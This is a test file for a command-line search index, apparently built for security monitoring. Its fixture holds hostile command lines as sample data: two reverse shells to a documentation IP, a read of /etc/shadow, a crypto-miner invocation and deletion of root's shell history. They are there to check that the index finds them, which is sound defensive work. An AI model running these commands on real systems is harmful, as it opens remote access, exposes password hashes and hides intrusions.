import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';

import { ShapeIndex } from './shape-index.ts';

const LINES: Readonly<Record<string, string>> = {
  shell: 'bash -i >& /dev/tcp/203.0.113.7/4444',
  netcat: 'nc -e /bin/sh 203.0.113.7 4444',
  shadow: 'sudo cat /etc/shadow',
  miner: '/tmp/xmrig -o stratum+tcp://pool.example:3333',
  archive: 'tar -czf /tmp/out.tgz /srv/data',
  history: 'rm -f /root/.bash_history',
  worker: 'php-fpm: pool www',
  list: 'ls -l /srv/www',
  rotate: 'logrotate /etc/logrotate.conf',
};

function indexOf(lines: Readonly<Record<string, string>>): ShapeIndex {
  const index = new ShapeIndex();
  for (const [id, line] of Object.entries(lines)) {
    const argv = line.split(' ');
    index.put({ id, argv, exe: argv[0] ?? '', count: 1 });
  }
  return index;
}

describe('a question in words', () => {
  const index = indexOf(LINES);
  const best = (question: string): string | undefined => index.search(question, 3)[0]?.id;

  test('finds what behaves like it, whether or not it has the words', () => {
    const shells = index.search('anything that looks like a reverse shell', 2).map(({ id }) => id);
    assert.deepEqual(shells.toSorted(), ['netcat', 'shell']);
    assert.equal(best('who read the password hashes'), 'shadow');
    assert.equal(best('crypto mining'), 'miner');
    assert.equal(best('compressing collected data'), 'archive');
  });

  test('is understood although it is misspelt', () => {
    assert.equal(best('bash histry deleted'), 'history');
    assert.equal(best('logrotatte'), 'rotate');
  });

  test('says why', () => {
    const [hit] = index.search('password hashes', 1);
    assert.deepEqual(hit?.why, ['/etc/shadow: password', '/etc/shadow: hashes']);
  });

  test('finds nothing where it asks for nothing', () => {
    for (const text of ['', 'the', '"', '🦖🦖']) assert.deepEqual(index.search(text, 10), []);
  });
});

test('what happens all day comes after what happens seldom', () => {
  const index = new ShapeIndex();
  for (const [id, count] of [
    ['often', 10_000],
    ['once', 1],
  ] as const)
    index.put({ id, argv: ['curl', 'https://example.com'], exe: 'curl', count });
  assert.deepEqual(
    index.search('download', 2).map(({ id }) => id),
    ['once', 'often'],
  );
});

test('an index from which shapes were taken is one that never had them', () => {
  const words = fc.constantFrom(...Object.values(LINES).flatMap((line) => line.split(' ')));
  const shape = fc.record({ id: fc.nat(9).map(String), argv: fc.array(words, { maxLength: 6 }) });
  fc.assert(
    fc.property(
      fc.array(shape, { maxLength: 20 }),
      fc.array(fc.nat(9)),
      words,
      (shapes, gone, q) => {
        const lived = new ShapeIndex();
        for (const { id, argv } of shapes) lived.put({ id, argv, exe: argv[0] ?? '', count: 1 });
        for (const id of gone) lived.remove(String(id));
        const last = new Map(shapes.map((one) => [one.id, one]));
        for (const id of gone) last.delete(String(id));
        const fresh = new ShapeIndex();
        for (const { id, argv } of last.values())
          fresh.put({ id, argv, exe: argv[0] ?? '', count: 1 });
        const round = (index: ShapeIndex): unknown =>
          index
            .search(q, 50)
            .map(({ id, score }) => `${id} ${score.toFixed(9)}`)
            .toSorted();
        assert.deepEqual(round(lived), round(fresh));
        assert.equal(lived.size, last.size);
      },
    ),
  );
});

test('hostile arguments cost little and break nothing', () => {
  const index = new ShapeIndex();
  const argv = ['sh', '-c', '|('.repeat(50_000), '\u0000\u202e', 'a'.repeat(100_000)];
  index.put({ id: 'x', argv, exe: 'sh', count: 1 });
  assert.deepEqual(
    index.search('shell', 1).map(({ id }) => id),
    ['x'],
  );
});

test('a word that says nothing is not asked for by its parts either', () => {
  const index = new ShapeIndex();
  index.put({ id: 'memory', argv: ['free', '-m'], exe: '/usr/bin/free', count: 1 });
  index.put({ id: 'halt', argv: ['halt', '-p'], exe: '/sbin/halt', count: 1 });
  const found = index.search('Shutdown by halt on FreeBSD', 10);
  assert.deepEqual(
    found.map(({ id }) => id),
    ['halt'],
  );
});
